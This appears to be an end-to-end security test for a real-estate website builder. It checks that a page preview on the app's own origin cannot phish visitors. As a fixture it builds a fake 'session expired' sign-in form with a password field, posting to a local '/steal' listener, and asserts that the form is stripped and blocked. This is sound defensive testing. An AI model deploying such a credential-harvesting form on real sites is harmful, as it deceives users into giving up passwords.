import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { callApi, createTestAgent, jsonBody } from '../support/agents.ts';
import { appUrl, useBrowser } from './helpers.ts';

/**
 * Phishing on our own origin (issue 20, "Content"): a website's preview is served on the app's address
 * (`/sites/{id}/`), so a page there that asks for an email and a password looks like EstateNet itself. The
 * content's own forms are not published at all (the renderer's allow-list, issue 19), and the forms a page
 * does have — the renderer's lead form — send nothing from a preview: neither to another host, nor to the
 * app's own lead route, which would put what the visitor typed in the page author's client book.
 */

const REGENERATION = { timeout: 20_000, interval: 250 };

// biome-ignore lint/suspicious/noExplicitAny: GrapesJS component JSON
type Json = Record<string, any>;

/** A sign-in form as the page's author writes it in the editor (GrapesJS component JSON). */
const signInForm = (action: string, button: string): Json => ({
  tagName: 'form',
  attributes: { method: 'post', action },
  components: [
    { tagName: 'h2', components: [{ type: 'textnode', content: 'Your EstateNet session expired' }] },
    { tagName: 'input', attributes: { name: 'name', 'aria-label': `${button} name`, value: 'Phished' } },
    { tagName: 'input', attributes: { name: 'email', type: 'email', 'aria-label': `${button} email` } },
    {
      tagName: 'input',
      attributes: { name: 'message', type: 'password', 'aria-label': `${button} password` },
    },
    {
      tagName: 'button',
      attributes: { type: 'submit' },
      components: [{ type: 'textnode', content: button }],
    },
  ],
});

describe('a website preview on the app origin', () => {
  const { openPage } = useBrowser();
  let offSite: Server;
  const received: string[] = [];

  beforeAll(async () => {
    Object.assign(process.env, inject('cloud').env);
    offSite = createServer((request, response) => {
      received.push(`${request.method} ${request.url}`);
      request.resume();
      response.end('thanks');
    });
    await new Promise<void>((resolve) => offSite.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => new Promise<void>((resolve) => offSite.close(() => resolve())));

  it('sends nothing a page asks for: no lead to its author, nothing to another host', async () => {
    const agent = await createTestAgent({ fullName: 'Phil Fisher' });
    const made = await callApi('/websites', {
      ...jsonBody('POST', { name: `Phil ${randomUUID().slice(0, 6)}`, template_id: 'coastal' }),
      token: agent.token,
    });
    expect(made.status).toBe(201);
    const { id } = (await made.json()) as { id: string };
    const full = (await (await callApi(`/websites/${id}`, { token: agent.token })).json()) as {
      content: { pages: Array<Json & { id: string }> };
    };
    const home = full.content.pages.find((page) => page.id === 'home')!;
    const stealTo = `http://127.0.0.1:${(offSite.address() as AddressInfo).port}/steal`;
    home.components = {
      ...home.components,
      components: [
        signInForm(`/api/website-leads/${id}`, 'Sign in'),
        signInForm(stealTo, 'Continue'),
        ...((home.components?.components as unknown[]) ?? []),
      ],
    };
    const saved = await callApi(`/websites/${id}`, {
      ...jsonBody('PUT', { content: full.content }),
      token: agent.token,
    });
    expect(saved.status, await saved.clone().text()).toBe(200);
    expect((await callApi(`/websites/${id}/publish`, { method: 'POST', token: agent.token })).status).toBe(
      200,
    );
    const forced = await callApi(`/website-domains/force-content/${id}`, {
      ...jsonBody('POST', { allPages: true }),
      token: agent.token,
    });
    expect(forced.status).toBe(200);
    await expect
      .poll(async () => (await fetch(appUrl(`/sites/${id}/`))).text(), REGENERATION)
      .toContain('Your EstateNet session expired');

    // the content's forms are not on the page: their words are, as text, but nothing to type into or send
    const published = await (await fetch(appUrl(`/sites/${id}/`))).text();
    const body = published.slice(published.indexOf('<body'));
    expect(body).not.toMatch(/<form|<input|<button|\/steal|type="password"/);

    const visitor = await openPage();
    const blocked: string[] = [];
    visitor.on('console', (message) => {
      if (/Blocked form submission/.test(message.text())) blocked.push(message.text());
    });
    await visitor.goto(appUrl(`/sites/${id}/`));
    await visitor.getByText('Your EstateNet session expired').first().waitFor();
    expect(await visitor.getByLabel('Sign in password').count()).toBe(0);
    await visitor.goto(appUrl(`/sites/${id}/contact`));
    await visitor.getByLabel('Name', { exact: true }).fill('Maya Collins');
    await visitor.getByLabel('Email', { exact: true }).fill('maya@harbor-pine.example');
    await visitor.getByLabel('Message', { exact: true }).fill('Demo-Password-1');
    await visitor.getByRole('button', { name: 'Send message', exact: true }).click();
    // Chromium refuses the submission (the preview's sandbox has no allow-forms) and says so
    await expect.poll(() => blocked.length, { message: 'the lead form was sent' }).toBe(1);
    expect(blocked.join('\n')).toMatch(/sandboxed and the 'allow-forms' permission is not set/);
    expect(visitor.url()).toBe(appUrl(`/sites/${id}/contact`));
    expect(received).toEqual([]);
    const clients = (await (await callApi('/api/clients', { token: agent.token })).json()) as {
      items: unknown[];
    };
    expect(clients.items).toEqual([]);
    await visitor.context().close();
  });
});
